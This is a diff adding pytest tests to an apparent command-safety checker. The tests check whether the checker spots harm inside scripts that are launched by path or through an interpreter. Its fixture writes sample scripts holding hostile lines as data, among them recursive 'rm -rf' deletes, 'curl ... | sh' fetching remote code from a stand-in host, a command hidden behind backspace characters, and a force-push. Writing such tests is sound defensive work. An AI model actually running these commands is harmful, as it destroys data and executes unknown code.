@@ -1,5 +1,6 @@
 """What is dangerous is held back, however it is wrapped; what only looks so is not."""
 
+import os
 import re
 import shlex
 import shutil
@@ -256,3 +257,70 @@ def test_the_length_and_depth_of_a_command_have_a_limit() -> None:
 
 def test_a_sed_script_of_nothing_but_backslashes_is_soon_read() -> None:
     assert reasons("sed 's/" + "\\\\" * 4000 + "/x' notes.txt", "/") == []
+
+
+_SCRIPTS = {
+    "clean.sh": ("#!/bin/sh\nrm -rf build\n", "clean.sh: rm deletes files"),
+    "deep.sh": ("#!/usr/bin/env bash\nif [ -n \"$1\" ]; then\n  sh ./clean.sh\nfi\n",
+                "deep.sh: clean.sh: rm deletes files"),
+    "fetch.sh": ("#!/bin/sh\ncurl -s https://x.example | sh\n", "fetch.sh: runs code that is only known when it runs"),
+    "hidden.sh": ("#!/bin/sh\nls\x08\x08rm y\n", "hidden.sh: has characters that can't be seen"),
+    "tool": ("#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('build')\n", "tool: deletes files"),
+    "run.py": ("import subprocess\nsubprocess.run(['git', 'push', '-f'])\n",
+               "run.py: git push -f changes what others have pushed"),
+    "old.pl": ("#!/usr/bin/perl\nunlink 'x';\n", "old.pl: deletes files"),
+    "old.js": ("require('fs').rmSync('x')\n", "old.js: deletes files"),
+    "look.sh": ("#!/bin/sh\n# rm -rf /\nfor f in *; do wc -l $f; done\n. \"$(dirname $0)/more.sh\"\n\"$TOOL\" x\n", ""),
+    "look.py": ("items = [1]\nitems.remove(1)\nprint('rm -rf /')\n", ""),
+    "built": ("\x7fELF\0rm -rf /", ""),
+    "itself.sh": ("#!/bin/sh\n./itself.sh\n", ""),
+}  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def scripts(tmp_path_factory: pytest.TempPathFactory) -> str:
+    """A folder with scripts, some of which do harm."""
+    made = tmp_path_factory.mktemp("scripts")
+    for name, (text, _) in _SCRIPTS.items():
+        (made / name).write_text(text)
+    (made / "folder").mkdir()
+    return str(made)
+
+
+@pytest.mark.parametrize("name", _SCRIPTS)
+def test_a_script_run_by_its_path_is_read(name: str, scripts: str) -> None:
+    told = [_SCRIPTS[name][1]] if _SCRIPTS[name][1] else []
+    assert reasons(f"./{name} now", scripts) == told
+    assert reasons(f"timeout 5 {scripts}/{name}", "/nowhere") in (told, [])
+    assert reasons(f"find . -exec ./{name} {{}} \\;", scripts) == told
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["sh clean.sh", "bash -x ./clean.sh y", "source clean.sh", ". ./clean.sh", "zsh clean.sh", "python3 -u tool x",
+     "python3 -m run", "uv run run.py", "perl -w old.pl", "node old.js", "ls; (cd folder; ../clean.sh)"],
+)  # fmt: skip
+def test_a_script_run_by_an_interpreter_is_read(command: str, scripts: str) -> None:
+    assert reasons(command, scripts)
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["bash -n clean.sh", "cat clean.sh", "sh look.sh", "python3 look.py", "./missing.sh", "./folder", "sh folder",
+     "source .bashrc", ". venv/bin/activate", "chmod +x clean.sh", "/usr/bin/which ls"],
+)  # fmt: skip
+def test_a_script_that_is_not_run_or_does_no_harm_is_let_through(command: str, scripts: str) -> None:
+    assert reasons(command, scripts) == []
+
+
+def test_pieces_that_would_be_written_over_are_seen(tmp_path: Path) -> None:
+    (tmp_path / "xaa").write_text("kept")
+    (tmp_path / "part00").write_text("kept")
+    assert reasons("split -b 1M data.csv", str(tmp_path))
+    assert reasons("csplit -f part data.csv 10", str(tmp_path))
+    assert reasons("split -b 1M data.csv new-", str(tmp_path)) == []
+
+
+def test_a_script_that_is_no_file_is_not_waited_for(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "pipe.sh")
+    assert reasons("./pipe.sh; sh pipe.sh", str(tmp_path)) == []
